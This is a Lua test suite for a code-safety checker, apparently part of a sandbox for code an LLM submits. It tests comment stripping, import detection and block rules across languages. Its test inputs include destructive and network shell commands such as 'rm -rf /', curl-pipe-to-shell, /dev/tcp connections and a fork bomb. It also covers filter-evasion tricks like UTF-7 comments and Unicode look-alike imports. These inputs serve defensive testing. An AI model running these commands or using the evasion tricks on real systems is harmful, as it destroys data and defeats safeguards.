-- llmbox.checks: comment stripping, import detection and policy checks, including the cheap
-- tricks that must not fool them (each with a control case that must still pass).
local checks = require "llmbox.checks"
local policy = require "llmbox.policy"

local strip = checks.strip_comments

local function lines(s)
    return select(2, s:gsub("\n", "")) + 1
end

local function names(mods)
    local out = {}
    for _, m in ipairs(mods) do out[#out + 1] = m.full .. "@" .. m.line end
    return out
end

local function rules_of(report)
    local out = {}
    for _, v in ipairs(report.violations) do out[#out + 1] = v.rule .. "@" .. v.line end
    return out
end

describe("strip_comments: python", function()
    it("removes comments and keeps every line", function()
        local code = "x = 1  # one\n# two\ny = 2\n"
        local out = strip(code, "python")
        assert.equal("x = 1  \n\ny = 2\n", out)
        assert.equal(lines(code), lines(out))
    end)

    it("keeps # inside every kind of string", function()
        assert.equal('print("#"); import os ', strip('print("#"); import os # c', "python"))
        assert.equal("s = '#' ", strip("s = '#' # c", "python"))
        assert.equal('s = "a\\"#" ', strip('s = "a\\"#" # c', "python"))
        assert.equal("s = '''\n# not a comment\n''' ", strip("s = '''\n# not a comment\n''' # c", "python"))
        assert.equal('s = """ \' # """ ', strip('s = """ \' # """ # c', "python"))
        for _, prefix in ipairs({ "r", "b", "f", "u", "rb", "br", "Rb", "BR", "fr", "F" }) do
            assert.equal("x = " .. prefix .. '"#" ', strip("x = " .. prefix .. '"#" # c', "python"), prefix)
        end
        assert.equal('x = r"\\"#" ', strip('x = r"\\"#" # c', "python"))
    end)

    it("understands f-string fields: format specs and nested quotes", function()
        assert.equal('s = f"{255:#x}"; import subprocess ',
            strip('s = f"{255:#x}"; import subprocess # c', "python"))
        -- Python 3.12: the same quote inside a replacement field
        assert.equal('x = f"{d["#"]}"; import os ', strip('x = f"{d["#"]}"; import os # c', "python"))
        assert.equal("x = f'{{#}}' ", strip("x = f'{{#}}' # c", "python"))
        assert.equal("x = f'{a:{w}#}' ", strip("x = f'{a:{w}#}' # c", "python"))
    end)

    it("an identifier ending in a prefix letter is not a prefix", function()
        assert.equal('bf = 1; x = "#" ', strip('bf = 1; x = "#" # c', "python"))
    end)
end)

describe("strip_comments: shell", function()
    it("# starts a comment only at the start of a word", function()
        assert.equal("echo $# ${#x} a#b ", strip("echo $# ${#x} a#b # c", "shell"))
        assert.equal("echo hi;", strip("echo hi;# c", "shell"))
        assert.equal("echo \\# x ", strip("echo \\# x # c", "shell"))
        assert.equal("\necho 1", strip("# c\necho 1", "bash"))
    end)

    it("keeps # inside quotes", function()
        assert.equal([[echo '#' "#" $'\'#' ]], strip([[echo '#' "#" $'\'#' # c]], "shell"))
        assert.equal('echo "a\\"#" ', strip('echo "a\\"#" # c', "shell"))
    end)

    it("keeps here-document bodies: they are data", function()
        local code = "cat <<EOF\n# data\nEOF\n# gone\ncat <<-'X'\n\t# data too\n\tX\necho 1 # c"
        assert.equal("cat <<EOF\n# data\nEOF\n\ncat <<-'X'\n\t# data too\n\tX\necho 1 ", strip(code, "shell"))
    end)
end)

describe("strip_comments: C-like languages", function()
    it("javascript: // and /* */ outside strings, templates and regexes", function()
        assert.equal('let a = "//"; ', strip('let a = "//"; // c', "javascript"))
        assert.equal("let s = `a ${ '/*' } // b`; ", strip("let s = `a ${ '/*' } // b`; // c", "javascript"))
        assert.equal("let s = `${ `x` + `//` }`; ", strip("let s = `${ `x` + `//` }`; // c", "js"))
        assert.equal('let r = /\\/\\/"/; ', strip('let r = /\\/\\/"/; // c', "javascript"))
        assert.equal("x = a / b; ", strip("x = a / b; // c", "javascript"))
        assert.equal("a \n\n b", strip("a /* 1\n2\n3 */ b", "javascript"))
        assert.equal("a b", strip("a/**/b", "javascript"))
    end)

    it("java text blocks, go raw strings, C++ raw strings and digit separators", function()
        assert.equal('String s = """\n// x\n"""; ', strip('String s = """\n// x\n"""; // c', "java"))
        assert.equal("s := `a // b`; ", strip("s := `a // b`; // c", "go"))
        -- Go: a backslash does not escape in a raw string, so the comment after it is real
        assert.equal("s := `\\`; ", strip("s := `\\`; // c", "go"))
        assert.equal('auto r = R"x(// not)x"; ', strip('auto r = R"x(// not)x"; // c', "cpp"))
        assert.equal("int a = 1'000; char c = '\"'; ", strip("int a = 1'000; char c = '\"'; // c", "c"))
        assert.equal("int a; \n\nint b;", strip("int a; // c \\\n still comment\nint b;", "cpp"))
    end)

    it("ruby and R", function()
        assert.equal('s = "#{x} #" ', strip('s = "#{x} #" # c', "ruby"))
        assert.equal("a = 1\n\n\n\nputs a", strip("a = 1\n=begin\nnotes\n=end\nputs a", "ruby"))
        assert.equal("x <- '#' ", strip("x <- '#' # c", "r"))
        assert.equal('x <- r"(#)" ', strip('x <- r"(#)" # c', "r"))
    end)

    it("returns unknown languages unchanged and raises on a non-string", function()
        assert.equal("x # y // z", strip("x # y // z", "cobol"))
        assert.has_error(function() strip(nil, "python") end,
            "checks.strip_comments: code must be a string, got nil")
    end)
end)

describe("modules", function()
    it("python: every import form, with top-level and full names", function()
        local code = table.concat({
            "import a, os",                                     -- 1
            "import os.path as p",                              -- 2
            "from xml.dom import minidom",                      -- 3
            "from . import local_thing",                        -- 4
            "if True: import subprocess",                       -- 5
            "from urllib import (request,",                     -- 6
            "    parse as pp)",                                 -- 7
            "import sys, \\",                                   -- 8
            "    ctypes",                                       -- 9
            "__import__('socket')",                             -- 10
            "importlib.import_module(\"pty\")",                 -- 11
            "s = '''",                                          -- 12
            "import nope",                                      -- 13
            "'''",                                              -- 14
            "print('#'); import json  # import commented",      -- 15
            "x = 1; from shutil import rmtree",                 -- 16
        }, "\n")
        local mods = checks.modules(code, "python")
        assert.same({ "a@1", "os@1", "os.path@2", "xml.dom@3", "subprocess@5", "urllib@6", "sys@8",
            "ctypes@9", "socket@10", "pty@11", "json@15", "shutil@16" }, names(mods))
        assert.equal("os", mods[3].name)
        assert.equal("os.path", mods[3].full)
        assert.equal("xml", mods[4].name)
        assert.is_nil(mods[1].imports)
    end)

    it("python: folds Unicode look-alikes the way Python does", function()
        assert.same({ "subprocess@1" }, names(checks.modules("import ｓｕｂｐｒｏｃｅｓｓ", "python")))
        assert.same({ "sys@1" }, names(checks.modules("import \197\191ys", "python"))) -- long s
        assert.same({ "os@1" }, names(checks.modules("import \240\157\144\168\240\157\144\172", "python")))
    end)

    it("javascript, ruby, R", function()
        local js = "const cp = require('child_process');\nimport fs from 'node:fs/promises';\n"
            .. "import('@scope/pkg/x'); import './local.js'\n// require('nope')\nexport { a } from \"b\""
        local mods = checks.modules(js, "javascript")
        assert.same({ "child_process@1", "fs/promises@2", "@scope/pkg/x@3", "b@5" }, names(mods))
        assert.equal("@scope/pkg", mods[3].name)
        assert.equal("fs", mods[2].name)
        assert.same({ "open3@1", "net/http@2" },
            names(checks.modules("require 'open3'\nrequire('net/http') # require 'x'\nrequire_relative 'y'", "ruby")))
        assert.same({ "ggplot2@1", "dplyr@2", "data.table@3" },
            names(checks.modules("library(ggplot2)\nrequire('dplyr')\ndata.table::fread('x') # library(no)", "r")))
    end)

    it("shell and unknown languages have no modules", function()
        assert.same({}, checks.modules("source ./x.sh; . /etc/profile", "shell"))
        assert.same({}, checks.modules("import os", "cobol"))
    end)
end)

describe("check with the default policy", function()
    local default, strict, permissive

    setup(function()
        default = assert(policy.load("default")).checks
        strict = assert(policy.load("strict")).checks
        permissive = assert(policy.load("permissive")).checks
    end)

    local function check(code, lang, p)
        return checks.check(code, lang or "python", p or default)
    end

    it("ordinary data-science code passes without findings", function()
        local r = check("import os\nimport json, math\nprint(os.path.join('a', 'b'))\nmodel.eval()\ndf.eval('a+b')")
        assert.same({ safe = true, mode = "enforce", blocked = false, violations = {} }, r)
        r = check("import os\nprint(os.path.join('a', 'b'))", "python", strict)
        assert.is_true(r.safe)
    end)

    it("refuses dangerous code and names the rule, severity, message and line", function()
        local r = check("import json\n\nos.system('ls')")
        assert.is_false(r.safe)
        assert.is_true(r.blocked)
        assert.same({ { rule = "os-system", severity = "high", message = "runs a shell command", line = 3 } },
            r.violations)
        r = check("x = 1\nimport subprocess")
        assert.same({ { rule = "module:subprocess", severity = "high", message = "runs other programs", line = 2 } },
            r.violations)
    end)

    it("is not fooled by # inside strings", function()
        assert.same({ "module:subprocess@1" }, rules_of(check('print("#"); import subprocess')))
        assert.same({ "module:subprocess@1" }, rules_of(check("s = f'{255:#x}'; import subprocess")))
        assert.same({ "module:subprocess@1" }, rules_of(check('s = f"{d["#"]}"; import subprocess')))
    end)

    it("is not fooled by lists, continuations, compound statements or dynamic imports", function()
        assert.same({ "module:subprocess@1" }, rules_of(check("import json, subprocess")))
        assert.same({ "module:subprocess@2" }, rules_of(check("import json, \\\n  subprocess")))
        assert.same({ "module:subprocess@1" }, rules_of(check("try: import subprocess\nexcept: pass")))
        assert.same({ "module:subprocess@1" }, rules_of(check("import subprocess as sp")))
        assert.same({ "module:subprocess@1" }, rules_of(check("from subprocess import (\n  run)")))
        assert.same({ "dunder-import@1", "module:ctypes@1" }, rules_of(check("m = __import__('ctypes')")))
    end)

    it("module names in comments and strings are not imports", function()
        assert.is_true(check("# import subprocess\n# os.system('x')\nprint(1)").safe)
        assert.is_true(check("doc = '''\nimport subprocess\n'''\nprint(doc)").safe)
        assert.same({}, check("x = 'import subprocess'").violations)
    end)

    it("strings are kept for patterns: a call with a string argument is still caught", function()
        assert.same({ "os-system@1" }, rules_of(check('os.system("rm -rf /")  # harmless?')))
    end)

    it("catches `from os import system` and Unicode look-alike identifiers", function()
        assert.same({ "module:os.system@1" }, rules_of(check("from os import path, system\nsystem('ls')")))
        assert.same({ "module:os.popen@1" }, rules_of(check("from os import (path,\n  popen as p)")))
        assert.same({ "module:subprocess@1" }, rules_of(check("import ｓｕｂｐｒｏｃｅｓｓ")))
        assert.same({ "os-system@1" }, rules_of(check("os.ｓｙｓｔｅｍ('ls')")))
    end)

    it("submodules: `from urllib import request` counts as urllib.request", function()
        assert.same({ "module:urllib.request@1" }, rules_of(check("from urllib import request")))
        assert.same({ "module:urllib.request@1" }, rules_of(check("import urllib.request")))
        assert.same({}, rules_of(check("from urllib import parse")))
    end)

    it("a lone carriage return ends a comment, as Python and JavaScript read it", function()
        assert.same({ "module:subprocess@1" }, rules_of(check("# note\rimport subprocess")))
        assert.same({ "module:child_process@1" },
            rules_of(check("// note\rrequire('child_process')", "javascript")))
        assert.same({ "module:child_process@1" },
            rules_of(check("// note\226\128\168require('child_process')", "javascript"))) -- U+2028
        assert.same({}, rules_of(check("# note\r\nimport json")))
    end)

    it("refuses source encodings that can turn comments into code", function()
        -- Python decodes "+AAo-" as a newline here, so the import really runs
        local r = check("# -*- coding: utf-7 -*-\n# +AAo-import subprocess\nprint(1)")
        assert.is_true(r.blocked)
        assert.same({ { rule = "source-encoding", severity = "critical", line = 1,
            message = "declares source encoding utf-7, which these checks cannot read; save the code as UTF-8" } },
            r.violations)
        assert.same({ "source-encoding@1" }, rules_of(check("#!/usr/bin/python3\n# vim: fileencoding=shift_jis\n")))
        assert.is_true(check("#!/usr/bin/env python3\n# -*- coding: utf-8 -*-\nprint(1)").safe)
        assert.is_true(check("# coding=latin-1\nprint(1)").safe)
        assert.is_true(check("print(1)\nprint(2)\n# coding: utf-7").safe) -- only lines 1 and 2 count
    end)

    it("never errors on odd input", function()
        for _, code in ipairs({ "", "\255\254\0 import subprocess \128", "'''", 'f"{', "\"\\", "x = (",
            string.rep("(", 10000), "\239\188\161\239", "#", "\\", string.rep('f"{', 5000),
            string.rep("`${", 5000), string.rep('"#{', 5000), "\r\r\n\226\128\168" }) do
            for _, lang in ipairs({ "python", "shell", "javascript", "cpp", "go", "java", "ruby", "r", "x" }) do
                local ok, r = pcall(checks.check, code, lang, default)
                assert.is_true(ok, lang .. ": " .. tostring(r))
                assert.is_boolean(r.safe)
                assert.is_string(strip(code, lang))
            end
        end
        assert.same({ "module:subprocess@1" }, rules_of(check("\255\254 import subprocess \128")))
    end)

    it("shell rules", function()
        local function sh(code) return rules_of(check(code, "shell")) end
        assert.same({ "rm-root@1" }, sh("rm -rf /"))
        assert.same({ "rm-root@2" }, sh("cd /tmp\nrm -fr /* ; echo"))
        assert.same({ "rm-root@1" }, sh("sudo rm -r -f / && echo x"))
        assert.same({}, sh("rm -rf /tmp/build ./out"))
        assert.same({ "download-and-run@1" }, sh("curl -fsSL https://x.example/i.sh | sh"))
        assert.same({ "download-and-run@1" }, sh("wget -qO- http://x | sudo bash"))
        assert.same({}, sh("curl -o file https://x.example/data.csv"))
        assert.same({}, sh("echo hi # curl x | sh"))
        assert.same({ "dev-tcp@1" }, sh("exec 3<>/dev/tcp/10.0.0.1/80"))
        assert.same({ "fork-bomb@1" }, sh(":(){ :|:& };:"))
        assert.is_true(check(":(){ :|:& };:", "shell").safe) -- medium, below default's threshold
        assert.same({ "download-and-run@1" }, rules_of(check("curl x | sh", "bash")))
    end)

    it('"*" rules apply to every language', function()
        assert.same({ "engine-socket@1" }, rules_of(check("ls /var/run/docker.sock", "shell")))
        assert.same({ "engine-socket@2" }, rules_of(check("x = 1\nopen('/run/docker.sock')", "python")))
        assert.same({ "engine-socket@1" }, rules_of(check("docker.sock", "cobol")))
        assert.same({ "engine-socket@1" }, rules_of(check("docker.sock", "*")))
    end)

    it("javascript rules", function()
        assert.same({ "module:child_process@1" }, rules_of(check("const { exec } = require('node:child_process')", "js")))
        assert.is_true(check("// require('child_process')\nconsole.log(1)", "javascript").safe)
    end)

    it("threshold: medium findings pass default, fail strict", function()
        local code = "import socket\nprint(eval('1+1'))"
        local r = check(code)
        assert.is_true(r.safe)
        assert.is_false(r.blocked)
        assert.same({ "module:socket@1", "eval@2" }, rules_of(r))
        r = check(code, "python", strict)
        assert.is_false(r.safe)
        assert.is_true(r.blocked)
    end)

    it("warn mode reports but does not block", function()
        local r = check("import subprocess", "python", permissive)
        assert.equal("warn", r.mode)
        assert.is_false(r.safe)
        assert.is_false(r.blocked)
        assert.same({ "module:subprocess@1" }, rules_of(r))
    end)

    it("off mode checks nothing", function()
        local off = { mode = "off", threshold = "high", rules = default.rules }
        assert.same({ safe = true, mode = "off", blocked = false, violations = {} },
            checks.check("import subprocess\nos.system('x')", "python", off))
    end)

    it("violations are sorted by line, one per rule and line", function()
        local r = check("os.system('a'); os.system('b')\nimport subprocess\nos.popen('c')\n"
            .. "import ctypes")
        assert.same({ "os-system@1", "module:subprocess@2", "os-popen@3", "module:ctypes@4" }, rules_of(r))
    end)

    it("raises on caller mistakes", function()
        assert.has_error(function() checks.check(nil, "python", default) end,
            "checks.check: code must be a string, got nil")
        assert.has_error(function() checks.check("x", nil, default) end)
        assert.has_error(function() checks.check("x", "python", nil) end,
            "checks.check: expected the policy's checks table (policy.checks), got nil")
    end)
end)

describe("check with custom rules", function()
    local function rules(t)
        return assert(policy.from_table({ checks = t }, "custom")).checks
    end

    it("severity order low < medium < high < critical", function()
        local p = rules({ threshold = "critical", rules = { python = {
            patterns = { { id = "hi", pattern = "xyz", severity = "high" },
                { id = "crit", pattern = "boom", severity = "critical" } } } } })
        assert.is_true(checks.check("xyz", "python", p).safe)
        assert.is_false(checks.check("xyz\nboom", "python", p).safe)
        p = rules({ threshold = "low", rules = { python = {
            restricted_modules = { { name = "os", severity = "low" } } } } })
        local r = checks.check("import os.path", "python", p)
        assert.is_false(r.safe)
        assert.same({ { rule = "module:os", severity = "low", message = "imports os.path", line = 1 } }, r.violations)
    end)

    it("a rule with several patterns matches when any does, on every matching line", function()
        local p = rules({ rules = { ["*"] = { patterns = {
            { id = "secret", patterns = { "AKIA%u+", "BEGIN RSA" }, message = "embeds a secret" } } } } })
        local r = checks.check("a = 1\nk = 'AKIAABC'\n-----BEGIN RSA\nk2 = 'AKIAXYZ'", "python", p)
        assert.same({ "secret@2", "secret@3", "secret@4" }, rules_of(r))
        assert.equal("embeds a secret", r.violations[1].message)
        assert.equal("high", r.violations[1].severity) -- the documented default
    end)

    it("rules are looked up by the language as given and by its canonical name", function()
        local p = rules({ rules = { shell = { patterns = { { id = "x", pattern = "danger" } } } } })
        assert.same({ "x@1" }, rules_of(checks.check("danger", "bash", p)))
        assert.same({ "x@1" }, rules_of(checks.check("danger", "sh", p)))
        assert.same({}, rules_of(checks.check("danger", "python", p)))
    end)
end)

-- Every language gets checks for running programs, native code, evaluating strings, calling by
-- computed names and networking. Each case: the rules it must report (rule@line), and whether
-- the default policy refuses it; controls must stay safe.
describe("checks for every language", function()
    local default, strict

    setup(function()
        default = assert(policy.load("default")).checks
        strict = assert(policy.load("strict")).checks
    end)

    local function expect(lang, cases)
        for _, c in ipairs(cases) do
            local code, want, blocked = c[1], c[2], c[3]
            local r = checks.check(code, lang, default)
            local got = rules_of(r)
            for _, rule in ipairs(want) do
                local found = false
                for _, g in ipairs(got) do found = found or g == rule end
                assert.is_true(found, lang .. ": expected " .. rule .. " for " .. code .. ", got "
                    .. table.concat(got, " "))
            end
            if blocked ~= nil then
                assert.equal(blocked, r.blocked, lang .. ": blocked for " .. code .. " (" .. table.concat(got, " ") .. ")")
            end
        end
    end

    local function safe(lang, codes)
        for _, code in ipairs(codes) do
            local r = checks.check(code, lang, strict)
            assert.same({}, rules_of(r), lang .. ": " .. code)
        end
    end

    it("python: star imports, getattr by name, aliases of os", function()
        expect("python", {
            { "from os import *\nsystem('ls')", { "os-star-import@1" }, true },
            { "import os\ngetattr(os, 'system')('ls')", { "os-by-name@2", "os-reflection@2" }, true },
            { "import os\ngetattr(os, 'sys' + 'tem')('ls')", { "os-reflection@2" }, false },
            { "import os as o\no.system('ls')", { "os-reflection@1" }, false },
            { "import os\nos.__dict__['system']('ls')", { "os-reflection@2" }, false },
        })
        safe("python", { "import os\nprint(os.path.join('a', 'b'))\nprint('from os import *')",
            "import platform\nprint(platform.system())\nexec_time = 3" })
    end)

    it("ruby: system, backticks, %x, IO.popen, Open3, spawn, exec, send(:system), open('|')", function()
        expect("ruby", {
            { 'system("rm -rf /")', { "shell-out@1" }, true },
            { "puts `ls`", { "shell-out@1" }, true },
            { "x = %x(ls -l)", { "shell-out@1" }, true },
            { 'IO.popen("ls")', { "shell-out@1" }, true },
            { 'require "open3"\nout, st = Open3.capture2("ls")', { "module:open3@1", "shell-out@2" }, true },
            { 'Kernel.spawn("ls")\nProcess.spawn("ls")', { "shell-out@1", "shell-out@2" }, true },
            { 'exec "ls"', { "shell-out@1" }, true },
            { 'Kernel.send(:system, "ls")', { "shell-out@1", "shell-out-by-name@1" }, true },
            { 'Kernel.public_send("system", "ls")', { "shell-out-by-name@1", "call-by-name@1" }, true },
            { 'Kernel.send("sys" + "tem", "ls")', { "computed-call@1" }, true },
            { 'Kernel.send("#{a}tem", "ls")', { "computed-call@1" }, true },
            { 'open("|ls")', { "shell-out-by-name@1" }, true },
            { 'require "fiddle"\nrequire "socket"', { "module:fiddle@1", "module:socket@2" }, true },
            { 'eval("1 + 1")', { "eval@1" }, false },
            { 'require "fid" + "dle"', { "dynamic-require@1" }, false },
            { 'pid = fork { puts 1 }', { "fork@1" }, false },
        })
        safe("ruby", { 'puts "system is up" # system("x")', "exec_time = 3\nh = { system: 1 }\nputs h[:name]",
            "s = 'run `ls` yourself'", 'require "json"\nputs JSON.generate({ a: 1 })', "def evaluate(x) x end" })
    end)

    it("java: Runtime.exec, ProcessBuilder, reflection, JNI, script engines, sockets", function()
        expect("java", {
            { 'Runtime.getRuntime().exec("ls");', { "process@1" }, true },
            { 'Runtime rt = Runtime.getRuntime();\nrt.exec(new String[]{"sh", "-c", "ls"});', { "process@2" }, true },
            { 'new java.lang.ProcessBuilder("ls").start();', { "process@1" }, true },
            { 'Class.forName("java.lang.Runtime").getMethod("exec", String.class);', { "process-by-name@1" }, true },
            { 'Class<?> c = Class.forName("java.lang." + "Runtime");', { "reflection@1" }, false },
            { 'm.setAccessible(true); m.invoke(o);', { "reflection@1" }, false },
            { 'System.loadLibrary("evil");', { "native-code@1" }, true },
            { 'System.load("/tmp/x.so");', { "native-code@1" }, true },
            { "private static native int f();", { "native-code@1" }, true },
            { "import sun.misc.Unsafe;", { "module:sun.misc@1", "native-code@1" }, true },
            { 'new ScriptEngineManager().getEngineByName("js").eval("1");', { "script-engine@1" }, false },
            { 'import java.net.Socket;\nimport java.lang.reflect.*;\nnew Socket("h", 80);',
                { "module:java.net@1", "module:java.lang.reflect@2", "network@3" }, false },
            { "import static java.lang.reflect.Array.newInstance;", { "module:java.lang.reflect@1" }, false },
        })
        safe("java", { 'String s = "Runtime.exec is bad"; // ProcessBuilder\n'
            .. "long exec_time = System.nanoTime();\nSystem.out.println(Runtime.getRuntime().totalMemory());",
            "import java.util.List;\nimport java.util.concurrent.Executors;\nExecutors.newFixedThreadPool(2).execute(r);" })
    end)

    it("go: os/exec (with an alias), syscall, unsafe, cgo, plugin, net, os.StartProcess", function()
        expect("go", {
            { 'import "os/exec"\nfunc main() { exec.Command("ls").Run() }', { "module:os/exec@1" }, true },
            { 'import (\n\t"fmt"\n\tx "os/exec"\n\t"syscall"\n\t_ "unsafe"\n)',
                { "module:os/exec@3", "module:syscall@4", "module:unsafe@5" }, true },
            { 'import "C"', { "module:C@1" }, true },
            { "import `plugin`", { "module:plugin@1" }, true },
            { 'import . "os"\nStartProcess("/bin/ls", nil, nil)', { "start-process@2" }, true },
            { 'import "golang.org/x/sys/unix"', { "module:golang.org/x/sys/unix@1" }, true },
            { 'import "net/http"\nimport "net"', { "module:net@1", "module:net@2" }, false },
        })
        safe("go", { 'package main\nimport (\n\t"fmt"\n\t"strings"\n)\nfunc main() { fmt.Println("os/exec") }'
            .. ' // import "os/exec"\nvar execTime = 3', 's := `import "os/exec"`' })
    end)

    it("c and c++: system, popen, exec*, fork, dlopen, asm, syscall, sockets", function()
        expect("cpp", {
            { '#include <cstdlib>\nint main() { std::system("ls"); }', { "process@2" }, true },
            { 'auto run = &system; run("ls");', { "process@1" }, true },
            { 'FILE *f = popen("ls", "r");', { "process@1" }, true },
            { 'execvp("ls", argv); execl("/bin/sh", "sh", NULL);', { "process@1" }, true },
            { 'posix_spawn(&pid, "/bin/ls", NULL, NULL, argv, env);', { "process@1" }, true },
            { 'void *h = dlopen("x.so", RTLD_NOW);', { "native-code@1" }, true },
            { 'asm("nop"); __asm__ volatile("syscall");', { "native-code@1" }, true },
            { "syscall(SYS_getpid);", { "native-code@1" }, true },
            { "#include <dlfcn.h>\n#include <sys/socket.h>", { "module:dlfcn.h@1", "module:sys/socket.h@2" }, true },
            { "pid_t p = fork();", { "fork@1" }, false },
            { "int s = socket(AF_INET, SOCK_STREAM, 0);", { "network@1" }, false },
        })
        expect("c", { { 'int main(void) { return system("ls"); }', { "process@1" }, true } })
        safe("cpp", { 'printf("system(\\"ls\\")\\n"); // system("x")\nint exec_time = 0; int execute = 1;',
            '#include <vector>\n#include <string>\nstd::string s = R"(popen("x"))";', "int my_system(void);" })
    end)

    it("r: system, system2, shell, pipe, do.call by name, .Call, dyn.load, eval(parse()), url, sockets", function()
        expect("r", {
            { 'system("ls")', { "shell-out@1" }, true },
            { 'base::system2("ls", "-l")', { "shell-out@1" }, true },
            { 'x <- readLines(pipe("ls"))', { "shell-out@1" }, true },
            { 'shell("dir")', { "shell-out@1" }, true },
            { 'do.call("system", list("ls"))', { "shell-out-by-name@1" }, true },
            { 'f <- match.fun("system"); f("ls")', { "shell-out-by-name@1" }, true },
            { 'dyn.load("x.so")\n.Call("f", 1)', { "native-code@1", "native-code@2" }, true },
            { "library(processx)\nsys::exec_wait('ls')", { "module:processx@1", "module:sys@2" }, true },
            { "Rcpp::cppFunction('int f() { return 1; }')", { "module:Rcpp@1" }, true },
            { 'eval(parse(text = "1 + 1"))', { "eval@1" }, false },
            { 'do.call(paste0("sys", "tem"), list("ls"))', {}, nil },
            { 'con <- url("http://x")\nsocketConnection("h", 80)', { "network@1", "network@2" }, false },
        })
        safe("r", { 'print("system(ls)") # system("x")\nexec_time <- system.time(f())\nSys.time()',
            "library(ggplot2)\nx <- data.frame(a = 1:3)\nprint(summary(x))" })
    end)

    it("javascript: computed requires, eval, computed members, native addons", function()
        expect("javascript", {
            { "require('child_' + 'process')", { "computed-require@1" }, true },
            { "const m = 'child_process'; require(m)", { "dynamic-require@1" }, false },
            { "process.dlopen(module, 'x.node')", { "native-addon@1" }, true },
            { "require('./build/addon.node')", { "native-addon@1" }, true },
            { 'eval("1+1"); new Function("return 1")', { "eval@1" }, false },
            { 'process["bin" + "ding"]("fs")', { "computed-member@1" }, false },
            { "import('vm').then(vm => vm.runInThisContext('1'))", { "module:vm@1" }, false },
        })
        safe("javascript", { 'console.log("require(child_process) eval(x)"); let exec_time = 1;',
            "const fs = require('fs'); const path = require('path'); model.evaluate();" })
    end)

    it("shell: eval, netcat, LD_PRELOAD", function()
        expect("shell", {
            { 'eval "$cmd"', { "eval@1" }, false },
            { "nc -l 8080", { "netcat@1" }, false },
            { "LD_PRELOAD=/tmp/x.so ls", { "preload@1" }, false },
        })
        safe("shell", { 'echo "eval is evil"; ls -l | wc -l # nc -l 80', "sync; func_nc=1" })
    end)

    it("strict refuses the medium findings that default reports", function()
        for _, c in ipairs({ { "ruby", 'eval("1")' }, { "java", 'Class.forName("x" + "y");' },
            { "r", 'eval(parse(text = "1"))' }, { "go", 'import "net"' }, { "cpp", "fork();" } }) do
            assert.is_false(checks.check(c[2], c[1], default).blocked, c[1])
            assert.is_true(checks.check(c[2], c[1], strict).blocked, c[1])
        end
    end)
end)

-- Checking is linear in the code's length. Each input is checked at two sizes, N and 4N, and the
-- CPU time compared (the least of three tries, so a busy machine cannot fake a slope): linear
-- work grows about 4 times, quadratic work 16 times; the factor allowed is 10.
describe("checking time is linear in the code's length", function()
    local default

    setup(function()
        default = assert(policy.load("default")).checks
    end)

    local INPUTS = {
        comments = { "# c\n", "// c\n" },
        huge_line = { "x = a + b * (c - d) / e; " },
        strings = { '"abc" + \'de\' + ' },
        imports = { "import mod\n", "import import ", "from os import " },
        backslashes = { "\\" },
        quotes = { '"', "'", "`" },
        regex = { "(/[", "= /" },
        heredocs = { "cat <<EOF\n" },
        fields = { 'f"{', "`${", '"#{' },
        words = { "curl ", "rm -r ", "send(", "R\"R", "require('", "__import__('", "| sudo -E ", "os.system " },
        spaces = { " ", "\t" },
        blocks = { "/*", "=begin\n" },
    }

    local function cpu(code, lang)
        local best = math.huge
        for _ = 1, 3 do
            collectgarbage() -- a collection that falls in one run and not the other is noise
            local t = os.clock()
            checks.check(code, lang, default)
            best = math.min(best, os.clock() - t)
        end
        return best
    end

    for kind, units in pairs(INPUTS) do
        it(kind, function()
            for _, unit in ipairs(units) do
                local small = string.rep(unit, math.ceil(16 * 1024 / #unit))
                local large = string.rep(unit, 4 * math.ceil(16 * 1024 / #unit))
                for _, lang in ipairs({ "python", "shell", "javascript", "java", "cpp", "go", "ruby", "r" }) do
                    local t1, t4 = cpu(small, lang), cpu(large, lang)
                    -- below a few milliseconds the clock says little: call that linear
                    assert.is_true(t4 < 0.005 or t4 < 10 * t1, string.format("%s %q x%d: %.4fs for 16K, %.4fs for 64K",
                        lang, unit, #large / #unit, t1, t4))
                end
            end
        end)
    end
end)

describe("the size bound", function()
    local function with(t)
        return assert(policy.from_table({ extends = "default", checks = t }, "sized")).checks
    end

    it("is 4M by default and a policy key", function()
        assert.equal(4 * 1024 * 1024, assert(policy.load("default")).checks.max_code_size)
        assert.equal(4 * 1024 * 1024, checks.max_code_size)
        assert.equal(1024, with({ max_code_size = "1K" }).max_code_size)
    end)

    it("enforce: longer code is refused, saying the size, the limit and the key", function()
        local r = checks.check(string.rep("x = 1\n", 200), "python", with({ max_code_size = "1K" }))
        assert.is_true(r.blocked)
        assert.is_false(r.safe)
        assert.same({ { rule = "code-size", severity = "critical", line = 1,
            message = "the code is 0.0 MiB (1200 bytes), more than the 0.0 MiB (1024 bytes) that "
                .. "checks.max_code_size allows, so it was not checked; send less code or raise "
                .. "checks.max_code_size in the policy" } }, r.violations)
        assert.is_true(checks.check(string.rep("x = 1\n", 170), "python", with({ max_code_size = "1K" })).safe)
    end)

    it("warn: longer code runs, with the finding as a warning; off checks nothing", function()
        local r = checks.check(string.rep("x", 2048), "python", with({ max_code_size = "1K", mode = "warn" }))
        assert.is_false(r.blocked)
        assert.same({ "code-size@1" }, rules_of(r))
        r = checks.check(string.rep("x", 2048), "python", with({ max_code_size = "1K", mode = "off" }))
        assert.is_true(r.safe)
    end)

    it("a checks table without the key gets the default", function()
        local r = checks.check(string.rep("x", 4 * 1024 * 1024 + 1), "python", { mode = "enforce", rules = {} })
        assert.is_true(r.blocked)
        assert.matches("(4194305 bytes), more than the 4.0 MiB (4194304 bytes)", r.violations[1].message, 1, true)
    end)
end)
